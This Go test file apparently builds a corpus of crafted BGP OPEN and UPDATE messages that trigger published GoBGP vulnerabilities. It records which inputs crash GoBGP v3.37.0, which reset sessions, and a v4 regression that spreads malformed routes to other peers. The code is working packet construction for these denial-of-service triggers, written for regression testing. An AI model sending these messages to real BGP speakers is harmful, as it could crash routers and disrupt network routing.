// Results of Crafted against in-process GoBGP, 2026-11-27: github.com/osrg/gobgp/v3
// v3.37.0 and github.com/osrg/gobgp/v4 v4.8.0, each an eBGP speaker (AS 64512, no
// listener) dialing this package's router (AS 65010, 4-octet AS, IPv4+IPv6 unicast,
// ADD-PATH receive, graceful restart, extended message) on 127.0.0.1, peer options
// as pkg/bgp sets them (ADD-PATH send, graceful restart, GoBGP's default RFC 7606
// treat-as-withdraw). One case per child process: CRASH is the child's panic;
// NOTIFICATION is the session reset GoBGP sent (code/subcode); IGNORED means the
// session stayed up and GoBGP still answered a ROUTE-REFRESH (adj-in: paths it
// kept from the router).
//
//	case                                  IDs                   peer?  v3.37.0                                   v4.8.0
//	nexthop-length-2                      CVE-2026-30405        yes    IGNORED (treat-as-withdraw), adj-in 0     IGNORED (treat-as-withdraw), adj-in 0
//	nexthop-length-5                      CVE-2026-30405        yes    IGNORED (treat-as-withdraw), adj-in 0     IGNORED (treat-as-withdraw), adj-in 0
//	unrecognized-well-known-attribute     CVE-2026-41642        yes    NOTIFICATION 3/2                          NOTIFICATION 3/2
//	as4path-before-aspath-published       CVE-2026-41643        yes    IGNORED (treat-as-withdraw), adj-in 0     IGNORED (treat-as-withdraw), adj-in 0
//	as4path-before-aspath-wellformed      CVE-2026-41643        yes    CRASH index out of range [3] with         IGNORED, route accepted (adj-in 1)
//	                                                                   length 3 in table.UpdatePathAttrs4ByteAs
//	treat-as-withdraw-unconfigured-family CVE-2026-42285        yes    NOTIFICATION 0/0                          IGNORED (treat-as-withdraw), adj-in 0
//	ip6-extended-community                CVE-2026-37461        no     IGNORED (treat-as-withdraw), adj-in 0     IGNORED (treat-as-withdraw), adj-in 0
//	withdrawn-length-underflow            CVE-2026-37462        yes    NOTIFICATION 3/1                          NOTIFICATION 3/1
//	attribute-length-underflow            CVE-2026-37462        yes    NOTIFICATION 3/5                          IGNORED (treat-as-withdraw), adj-in 0
//	srv6-service-unknown-subtlv           CVE-2026-7734         yes    CRASH slice bounds out of range [6:4] in  IGNORED, route accepted (adj-in 1)
//	                                                                   bgp.(*SRv6ServiceTLV).DecodeFromBytes
//	srv6-service-empty-tlv                CVE-2026-7734         yes    CRASH slice bounds out of range [1:0] in  IGNORED, attribute discarded (adj-in 1)
//	                                                                   bgp.(*SRv6ServiceTLV).DecodeFromBytes
//	aigp-short-metric                     CVE-2026-7735         yes    IGNORED, attribute discarded (adj-in 1)   IGNORED, attribute discarded (adj-in 1)
//	mrt-rib-entry-attribute-length        CVE-2026-7736         no     IGNORED (treat-as-withdraw), adj-in 0     IGNORED (treat-as-withdraw), adj-in 0
//	bmp-parsebody-short                   CVE-2026-7737         no     NOTIFICATION 7/1                          NOTIFICATION 7/1
//	confed-empty-aspath                   GHSA-frrj-87jh-2772   no     IGNORED, route accepted (adj-in 1)        IGNORED, route accepted (adj-in 1)
//	unknown-message-type                  osrg/gobgp#3325       yes    CRASH nil pointer dereference in          NOTIFICATION 1/3
//	                                                                   server.(*fsmHandler).handlingError
//	discard-skips-validation              (none)                yes    IGNORED (treat-as-withdraw), adj-in 0     IGNORED, route with no AS_PATH and no
//	                                                                                                             NEXT_HOP accepted (adj-in 1)
//	open-capability-length-zero           GHSA-gjrg-jjr3-56cm   yes    session established                       NOTIFICATION 2/7 in the OPEN exchange
//
// Why some reachable cases do not crash v3.37.0: its treat-as-withdraw replaced
// the UPDATE by a bare withdrawal before validation (v4.0.0 stopped doing so),
// which hides the NEXT_HOP bug (CVE-2026-30405), the published AS4_PATH payload
// (bad flags: treat-as-withdraw) and the AdjRib nil table (CVE-2026-42285; the
// withdrawal is then validated and the session reset); CVE-2026-41642's nil
// dereference was in v4 code (an error variable shadowed by the CVE-2026-30405
// fix) that v3 does not have; the CVE-2026-37462 underflow cannot run off the
// buffer within v3's 4096-octet messages; the AIGP bug (CVE-2026-7735) drops
// errors and never panics. Not reachable from a peer: ParseIP6Extended's only
// wire caller passes 20-octet chunks; MRT is parsed only from files; GoBGP
// never parses BMP; GHSA-frrj-87jh-2772 needs a confederation peer.
//
// discard-skips-validation is no advisory but a v4 regression (from 583080a7,
// the CVE-2026-30405 fix): after an attribute-discard error GoBGP skips
// ValidateUpdateMsg altogether. With a second router, v4.8.0 re-advertised that
// route to it as an UPDATE whose MP_REACH_NLRI has a zero-length next hop, and
// an IPv6 route sent without ORIGIN went out without ORIGIN: one router can make
// GoBGP send malformed UPDATEs to all the others.

package bgptest

import (
	"encoding/binary"
	"net/netip"
)

// Case is one crafted input for a GoBGP advisory (or for the code nearest to
// it that a BGP peer can reach).
type Case struct {
	Name string
	CVE  string // "" if none was assigned
	GHSA string // "" if none was published
	Bug  string // what went wrong in GoBGP, in one line
	// Reachable: a BGP peer of an export-only eBGP speaker (IPv4/IPv6 unicast,
	// no confederation, no BMP, MRT or zebra) can trigger the bug itself.
	Reachable bool
	Note      string // why not, and what the case exercises instead
	// Open, if set, changes the OPEN the router sends; the case then happens
	// in the OPEN exchange and Messages may be nil.
	Open func(*Open)
	// Messages returns what to send once the session is established.
	Messages func(n *Negotiated) [][]byte
}

// Prefixes the crafted UPDATEs announce (documentation ranges).
var (
	CraftedPrefix4 = netip.MustParsePrefix("198.51.100.0/24")
	CraftedPrefix6 = netip.MustParsePrefix("2001:db8:100::/48")
)

// nlri4 returns p as IPv4 NLRI, with a path identifier if ADD-PATH says so.
func nlri4(n *Negotiated, p netip.Prefix) []byte {
	if n.SendPathID[IPv4Unicast] {
		return PathPrefix(1, p)
	}
	return Prefix(p)
}

// asPath returns our AS_PATH as the session wants it encoded.
func asPath(n *Negotiated) []byte {
	if n.FourOctetAS {
		return ASPath(true, Seq(n.LocalASN))
	}
	as := n.LocalASN
	if as > 0xffff {
		as = ASTrans
	}
	return ASPath(false, Seq(as))
}

// nextHop4 returns a usable IPv4 next hop: this side's address, which the
// speaker accepts on a loopback session.
func nextHop4(n *Negotiated) netip.Addr {
	if n.LocalAddr.Is4() {
		return n.LocalAddr
	}
	return netip.MustParseAddr("192.0.2.1")
}

// route returns a valid IPv4 UPDATE for CraftedPrefix4 with extra attributes
// appended after ORIGIN, AS_PATH and NEXT_HOP.
func route(n *Negotiated, extra ...[]byte) []byte {
	attrs := append([][]byte{Origin(OriginIGP), asPath(n), NextHop(nextHop4(n))}, extra...)
	return Update(nil, attrs, nlri4(n, CraftedPrefix4))
}

// Crafted returns the corpus, in a fixed order.
func Crafted() []Case {
	return []Case{
		{
			Name: "nexthop-length-2", CVE: "CVE-2026-30405", GHSA: "GHSA-4p9m-8gc4-rw2h",
			Bug:       "a NEXT_HOP of the wrong length was kept after treat-as-withdraw and validation indexed its empty address (ip[0])",
			Reachable: true,
			Messages: func(n *Negotiated) [][]byte {
				return [][]byte{Update(nil, [][]byte{Origin(OriginIncomplete), asPath(n),
					Attr(FlagTransitive, AttrNextHop, []byte{192, 0})}, nlri4(n, CraftedPrefix4))}
			},
		},
		{
			Name: "nexthop-length-5", CVE: "CVE-2026-30405", GHSA: "GHSA-4p9m-8gc4-rw2h",
			Bug:       "same as nexthop-length-2 with a 5-octet NEXT_HOP, which no address parser accepts",
			Reachable: true,
			Messages: func(n *Negotiated) [][]byte {
				return [][]byte{Update(nil, [][]byte{Origin(OriginIGP), asPath(n),
					Attr(FlagTransitive, AttrNextHop, []byte{192, 0, 2, 1, 0})}, nlri4(n, CraftedPrefix4))}
			},
		},
		{
			Name: "unrecognized-well-known-attribute", CVE: "CVE-2026-41642", GHSA: "GHSA-7235-89m6-f4px",
			Bug:       "an attribute with an unknown type and the Optional bit clear did not stop UPDATE handling, leading to a nil dereference",
			Reachable: true,
			Messages: func(n *Negotiated) [][]byte {
				return [][]byte{route(n, Attr(FlagTransitive, 0xf1, []byte{0xde, 0xad}))}
			},
		},
		{
			Name: "as4path-before-aspath-published", CVE: "CVE-2026-41643", GHSA: "GHSA-8rxh-r2p6-7f2q",
			Bug:       "UpdatePathAttrs4ByteAs removed AS4_PATH and then wrote AS_PATH back at its old index (index out of range)",
			Reachable: true,
			Note: "the published reproducer's shape: an AS4_PATH with bad flags (Transitive only) and length 1, " +
				"then an AS_PATH of 4 octets with an invalid segment type, no NLRI",
			Messages: func(n *Negotiated) [][]byte {
				return [][]byte{Update(nil, [][]byte{
					AttrWithLength(FlagTransitive, AttrAS4Path, 1, []byte{0x02}),
					AttrWithLength(FlagTransitive, AttrASPath, 4, []byte{0xff, 0xff, 0xde, 0xad}),
				}, nil)}
			},
		},
		{
			Name: "as4path-before-aspath-wellformed", CVE: "CVE-2026-41643", GHSA: "GHSA-8rxh-r2p6-7f2q",
			Bug: "same index bug, triggered by a valid route whose attributes are ORIGIN, NEXT_HOP, AS4_PATH, AS_PATH " +
				"(RFC 4271 lets attributes come in any order)",
			Reachable: true,
			Messages: func(n *Negotiated) [][]byte {
				return [][]byte{Update(nil, [][]byte{Origin(OriginIGP), NextHop(nextHop4(n)),
					AS4Path(Seq(n.LocalASN)), asPath(n)}, nlri4(n, CraftedPrefix4))}
			},
		},
		{
			Name: "treat-as-withdraw-unconfigured-family", CVE: "CVE-2026-42285", GHSA: "GHSA-p3w2-64xm-833j",
			Bug: "an UPDATE treated as withdraw (RFC 7606) turned MP_REACH_NLRI of a family the session did not " +
				"negotiate into withdrawals, and AdjRib.Update dereferenced that family's nil table",
			Reachable: true,
			Note: "ORIGIN of length 2 forces treat-as-withdraw; MP_REACH_NLRI carries IPv4 labeled unicast (1/4), " +
				"not negotiated (a labeled prefix keeps its family through GoBGP's withdraw conversion, IPv4 multicast does not)",
			Messages: func(n *Negotiated) [][]byte {
				labeled := []byte{8 + 24, 0x00, 0x01, 0x01, 10} // 10.0.0.0/8 behind label 16 (bottom of stack)
				return [][]byte{Update(nil, [][]byte{
					Attr(FlagTransitive, AttrOrigin, []byte{0, 0}),
					asPath(n),
					MPReach(Family{AFI: 1, SAFI: 4}, []netip.Addr{nextHop4(n)}, labeled),
				}, nil)}
			},
		},
		{
			Name: "ip6-extended-community", CVE: "CVE-2026-37461", GHSA: "GHSA-wmvj-f67g-qg4g",
			Bug:       "ParseIP6Extended checked for 8 octets but read 20",
			Reachable: false,
			Note: "the only wire caller passes 20-octet chunks of an attribute whose length is a multiple of 20 " +
				"(the fix commit says so); sends an IPv6 Address Specific Extended Community (type 25) of an " +
				"unknown sub-type, then one of 8 octets",
			Messages: func(n *Negotiated) [][]byte {
				ec := append([]byte{0x00, 0x7f}, netip.MustParseAddr("2001:db8::1").AsSlice()...)
				ec = append(ec, 0x00, 0x01)
				return [][]byte{
					route(n, Attr(FlagOptional|FlagTransitive, AttrIP6ExtCommunity, ec)),
					route(n, Attr(FlagOptional|FlagTransitive, AttrIP6ExtCommunity, ec[:8])),
				}
			},
		},
		{
			Name: "withdrawn-length-underflow", CVE: "CVE-2026-37462", GHSA: "GHSA-pw7p-7fqv-hpj8",
			Bug:       "a withdrawn-routes length shorter than its first prefix wrapped a uint16 and parsing ran past the field",
			Reachable: true,
			Messages: func(n *Negotiated) [][]byte {
				w := Prefix(netip.MustParsePrefix("203.0.113.7/32"))
				if n.SendPathID[IPv4Unicast] {
					w = PathPrefix(1, netip.MustParsePrefix("203.0.113.7/32"))
				}
				body := binary.BigEndian.AppendUint16(nil, 2) // says 2, holds 5 (9)
				body = append(body, w...)
				body = append(body, 0, 0) // no path attributes
				return [][]byte{Msg(TypeUpdate, body)}
			},
		},
		{
			Name: "attribute-length-underflow", CVE: "CVE-2026-37462", GHSA: "GHSA-pw7p-7fqv-hpj8",
			Bug:       "a total path attribute length shorter than its first attribute wrapped a uint16 and the NLRI were parsed as attributes",
			Reachable: true,
			Messages: func(n *Negotiated) [][]byte {
				body := []byte{0, 0, 0, 3} // no withdrawn routes; attributes: 3 octets
				body = append(body, Origin(OriginIGP)...)
				for range 16 { // what the wrapped loop reads next: empty optional attributes
					body = append(body, FlagOptional|FlagTransitive, 0xfe, 0)
				}
				return [][]byte{Msg(TypeUpdate, body)}
			},
		},
		{
			Name: "srv6-service-unknown-subtlv", CVE: "CVE-2026-7734", GHSA: "GHSA-vm3g-8xwv-mxfp",
			Bug: "the SRv6 Service TLV decoder skipped an unknown sub-TLV by advancing the wrong slice " +
				"(slice out of range in v3, a loop in later versions)",
			Reachable: true,
			Note:      "any UPDATE may carry a Prefix-SID attribute (type 40); GoBGP decodes it whatever the family",
			Messages: func(n *Negotiated) [][]byte {
				tlv := []byte{5, 0, 7, 0, 0xff, 0, 3, 1, 2, 3} // SRv6 L3 Service: reserved, unknown sub-TLV
				return [][]byte{route(n, Attr(FlagOptional|FlagTransitive, AttrPrefixSID, tlv))}
			},
		},
		{
			Name: "srv6-service-empty-tlv", CVE: "CVE-2026-7734", GHSA: "GHSA-vm3g-8xwv-mxfp",
			Bug:       "the SRv6 Service TLV decoder skipped a reserved octet a zero-length TLV does not have",
			Reachable: true,
			Note: "same decoder as srv6-service-unknown-subtlv; an unknown TLV follows so that the attribute is " +
				"long enough for the TLV loop to start",
			Messages: func(n *Negotiated) [][]byte {
				tlvs := []byte{5, 0, 0, 0xfe, 0, 1, 0} // empty SRv6 L3 Service TLV, then an unknown TLV
				return [][]byte{route(n, Attr(FlagOptional|FlagTransitive, AttrPrefixSID, tlvs))}
			},
		},
		{
			Name: "aigp-short-metric", CVE: "CVE-2026-7735",
			Bug:       "the AIGP decoder ignored a truncated IGP Metric TLV and a TLV longer than the attribute instead of failing",
			Reachable: true,
			Note:      "AIGP (type 26) is decoded from any peer; the bug drops errors, it does not crash",
			Messages: func(n *Negotiated) [][]byte {
				return [][]byte{
					route(n, Attr(FlagOptional, AttrAIGP, []byte{1, 0, 4, 0})),
					route(n, Attr(FlagOptional, AttrAIGP, []byte{1, 0, 11, 0, 0, 0, 0})),
				}
			},
		},
		{
			Name: "mrt-rib-entry-attribute-length", CVE: "CVE-2026-7736", GHSA: "GHSA-hj4w-qr9j-c4cf",
			Bug:       "parseRibEntry subtracted attribute lengths from a uint16 without a bound and wrapped",
			Reachable: false,
			Note: "MRT is only parsed from files (gobgp mrt inject), never from a peer; sends the UPDATE analogue: " +
				"an extended-length attribute that overruns the path attributes into the NLRI",
			Messages: func(n *Negotiated) [][]byte {
				attrs := append(Origin(OriginIGP), asPath(n)...)
				attrs = append(attrs, NextHop(nextHop4(n))...)
				attrs = append(attrs, FlagOptional|FlagTransitive|FlagExtLength, 0xfe, 0x01, 0x00) // says 256
				body := binary.BigEndian.AppendUint16([]byte{0, 0}, uint16(len(attrs)))
				body = append(body, attrs...)
				body = append(body, nlri4(n, CraftedPrefix4)...)
				return [][]byte{Msg(TypeUpdate, body)}
			},
		},
		{
			Name: "bmp-parsebody-short", CVE: "CVE-2026-7737", GHSA: "GHSA-w88c-9vg8-cmq8",
			Bug:       "BMP Peer Up and Statistics Report decoders read fixed offsets without a length check",
			Reachable: false,
			Note: "GoBGP only sends BMP; it never parses BMP from anyone. Sends the nearest a peer has: messages " +
				"with bodies shorter than their fixed fields (ROUTE-REFRESH of 2 octets, then NOTIFICATION of 1)",
			Messages: func(n *Negotiated) [][]byte {
				return [][]byte{Msg(TypeRouteRefresh, []byte{0, 1}), Msg(TypeNotification, []byte{6})}
			},
		},
		{
			Name: "confed-empty-aspath", GHSA: "GHSA-frrj-87jh-2772",
			Bug:       "validation read the first AS_PATH segment of an empty AS_PATH from a confederation eBGP peer",
			Reachable: false,
			Note:      "needs a confederation peer; sends the same empty AS_PATH from a plain eBGP peer",
			Messages: func(n *Negotiated) [][]byte {
				return [][]byte{Update(nil, [][]byte{Origin(OriginIGP), Attr(FlagTransitive, AttrASPath, nil),
					NextHop(nextHop4(n))}, nlri4(n, CraftedPrefix4))}
			},
		},
		{
			Name:      "unknown-message-type",
			Bug:       "a message of unknown type left the parsed message nil and error handling dereferenced it (osrg/gobgp#3325)",
			Reachable: true,
			Note:      "no advisory; fixed in v4.4.0 by a38edb25",
			Messages: func(n *Negotiated) [][]byte {
				return [][]byte{Msg(0xff, nil)}
			},
		},
		{
			Name: "discard-skips-validation",
			Bug: "an attribute error handled by attribute-discard (here a short AIGP IGP Metric TLV) makes v4 skip " +
				"ValidateUpdateMsg, so a route without AS_PATH and NEXT_HOP is accepted and re-advertised to other peers " +
				"as an UPDATE with a zero-length MP_REACH next hop",
			Reachable: true,
			Note: "no advisory; introduced with the CVE-2026-30405 fix (583080a7, v4.4.0), present in v4.8.0. " +
				"Not a crash: look for the route in Adj-RIB-In (v3 treats the UPDATE as withdraw)",
			Messages: func(n *Negotiated) [][]byte {
				return [][]byte{Update(nil, [][]byte{Origin(OriginIGP), Attr(FlagOptional, AttrAIGP, []byte{1, 0, 4, 0})},
					nlri4(n, CraftedPrefix4))}
			},
		},
		{
			Name: "open-capability-length-zero", GHSA: "GHSA-gjrg-jjr3-56cm",
			Bug:       "capability decoders read past a capability's declared length; a 4-octet AS capability of length 0 took its ASN from the next capability",
			Reachable: true,
			Note:      "happens in the OPEN exchange: a 4-octet AS capability of length 0 just before the real one; no crash expected",
			Open: func(o *Open) {
				if !o.FourOctetAS {
					return
				}
				o.FourOctetAS = false
				real := append([]byte{CapFourOctetAS, 4}, binary.BigEndian.AppendUint32(nil, o.ASN)...)
				o.RawCapabilities = append([][]byte{{CapFourOctetAS, 0}, real}, o.RawCapabilities...)
			},
		},
	}
}
